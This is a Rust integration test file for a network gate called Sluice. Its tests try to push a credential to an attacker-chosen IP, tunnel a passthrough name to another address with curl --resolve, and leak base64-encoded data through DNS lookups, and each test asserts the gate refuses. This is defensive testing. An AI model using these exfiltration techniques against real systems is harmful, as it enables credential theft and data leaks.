//! The gate's own decisions under attack: credentials toward chosen addresses, passthrough
//! names as tunnels, DNS as a channel, and the leftovers of a crash.

use std::net::SocketAddr;
use std::process::Stdio;

use tests::sluice::Options;
use tests::{addrs, upstream};

use super::range::{EXEC_MODES, Mode, Range};

const SECRET: &str = "sk-attack-real-value-9f2c41d7";
const NXDOMAIN: u64 = 3;
const REFUSED: u64 = 5;

fn session(range: &Range, args: &[&str]) -> String {
    range
        .sluice
        .create_session(args, &[("SECRET", SECRET)])
        .unwrap()
        .0
}

fn dns_options() -> Options {
    Options {
        dns_hosts: vec![
            ("api.test".into(), "198.51.100.10".into()),
            ("pinned.test".into(), "198.51.100.10".into()),
            ("other.test".into(), "198.51.100.11".into()),
        ],
        extra_toml: "[policy]\npassthrough = [\"pinned.test\"]\n".into(),
        ..Options::default()
    }
}

#[test]
fn a_credential_never_goes_to_a_chosen_ip_over_plain_http() {
    let range = Range::new(&dns_options());
    let sink = upstream::http()
        .echo()
        .start(&range.lab, SocketAddr::new(addrs::HOST_C.into(), 80))
        .unwrap();
    let id = session(&range, &["--cred", "API_KEY=env:SECRET@api.test"]);
    for mode in EXEC_MODES {
        let shot = range.fire(
            mode,
            &["--session", &id],
            "http",
            &[
                "198.51.100.12",
                "80",
                "api.test",
                "Authorization: Bearer sluice_cred:API_KEY",
            ],
        );
        let text = shot.got["detail"].as_str().unwrap_or_default();
        assert!(text.starts_with("HTTP/1.1 403"), "{mode:?}: {}", shot.got);
        assert!(
            text.contains("API_KEY"),
            "the refusal names the credential: {text}"
        );
        range.nothing_left(&shot);
    }
    assert!(sink.requests().is_empty(), "the chosen address got nothing");
    assert!(range.sniffer.carrying(SECRET.as_bytes()).is_empty());
}

#[test]
fn a_passthrough_name_does_not_tunnel_to_a_chosen_ip_or_port() {
    let range = Range::new(&dns_options());
    let chosen = range_sink(&range, addrs::HOST_C, 443);
    let other_port = range_sink(&range, addrs::HOST_A, 8443);
    for mode in EXEC_MODES {
        for target in [
            "pinned.test:443:198.51.100.12",
            "pinned.test:8443:198.51.100.10",
        ] {
            let port = target.split(':').nth(1).unwrap();
            let url = format!("https://pinned.test:{port}/");
            let out = range.output(
                mode,
                &[],
                &[
                    "curl",
                    "-sSk",
                    "--max-time",
                    "5",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    "--resolve",
                    target,
                    &url,
                ],
            );
            // Refused: a closed connection, or Sluice's own readable 403 (a leaf it minted
            // for the name, which `-k` accepts); never an answer from the chosen address.
            let code = String::from_utf8_lossy(&out.stdout);
            assert!(
                !out.status.success() || code == "403",
                "{mode:?} {target}: {out:?}"
            );
        }
    }
    assert!(
        chosen.connections().is_empty(),
        "no tunnel to a chosen address"
    );
    assert!(
        other_port.connections().is_empty(),
        "no tunnel to another port"
    );
    let refused = range
        .sluice
        .audit()
        .into_iter()
        .filter(|r| r["kind"] == "connection" && r["host"] == "pinned.test")
        .filter(|r| r["decision"] != "allow")
        .count();
    assert!(refused >= 4, "every attempt is audited as refused");
}

#[test]
fn dns_names_outside_the_policy_do_not_resolve() {
    let range = Range::new(&dns_options());
    let id = session(&range, &["--allow", "api.test"]);
    for mode in EXEC_MODES {
        let ok = range.fire(
            mode,
            &["--session", &id],
            "dns",
            &["api.test", "1", "203.0.113.53"],
        );
        assert_eq!(
            ok.got["rcode"], 0,
            "{mode:?}: allowed names resolve: {}",
            ok.got
        );
        let exfil = format!("{}.other.test", "c2VjcmV0");
        let shot = range.fire(
            mode,
            &["--session", &id],
            "dns",
            &[&exfil, "1", "203.0.113.53"],
        );
        assert_eq!(shot.got["rcode"], NXDOMAIN, "{mode:?}: {}", shot.got);
        range.nothing_left(&shot);
    }
    let resolver: std::net::IpAddr = "203.0.113.53".parse().unwrap();
    assert!(
        range.sniffer.to(resolver).is_empty(),
        "no query left the node"
    );
}

#[test]
fn dns_query_types_other_than_addresses_are_refused() {
    let range = Range::new(&dns_options());
    for mode in EXEC_MODES {
        const TXT: &str = "16";
        let shot = range.fire(mode, &[], "dns", &["api.test", TXT, "203.0.113.53"]);
        assert_eq!(shot.got["rcode"], REFUSED, "{mode:?}: {}", shot.got);
    }
}

#[test]
fn dns_over_tcp_is_refused() {
    let range = Range::new(&dns_options());
    for mode in [Mode::Exec, Mode::Shared, Mode::Enrolled] {
        let shot = range.fire(mode, &[], "dns-tcp", &["api.test", "203.0.113.53"]);
        shot.assert_refused("DNS over TCP");
        range.nothing_left(&shot);
    }
}

#[test]
fn a_sandbox_left_by_a_dead_daemon_does_not_block_the_next() {
    let mut range = Range::plain();
    let orphan = range
        .sluice
        .exec(&[], &["sleep", "2"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(700));
    range.sluice.kill9();
    // `sluice exec` outlives the command but cannot reach the daemon to remove the sandbox.
    let left = orphan.wait_with_output().unwrap();
    assert!(
        String::from_utf8_lossy(&left.stderr).contains("was not removed"),
        "{left:?}"
    );
    // The worst case: the daemon also lost its sandbox table.
    std::fs::remove_file(range.state_dir().join("sandboxes.json")).unwrap();
    range.sluice.restart().unwrap();
    for _ in 0..3 {
        let out = range.output(Mode::Exec, &[], &["true"]);
        assert!(out.status.success(), "{out:?}\n{}", range.sluice.log(2));
    }
    let leftovers: Vec<_> = std::fs::read_dir(&range.sluice.parent_cgroup)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("sb-"))
        .collect();
    assert!(leftovers.is_empty(), "leftovers were reaped: {leftovers:?}");
    let prefix = tests::sluice::netns_prefix(&range.sluice.parent_cgroup);
    assert_eq!(
        prefix,
        sluice::daemon::leftovers::netns_prefix(&range.sluice.parent_cgroup)
    );
    let namespaces: Vec<_> = std::fs::read_dir("/run/netns")
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .collect();
    assert!(
        namespaces.is_empty(),
        "namespaces were reaped: {namespaces:?}"
    );
}

fn range_sink(range: &Range, ip: std::net::Ipv4Addr, port: u16) -> upstream::RunningTcp {
    upstream::tcp_recorder(4096)
        .start(&range.lab, SocketAddr::new(ip.into(), port))
        .unwrap()
}
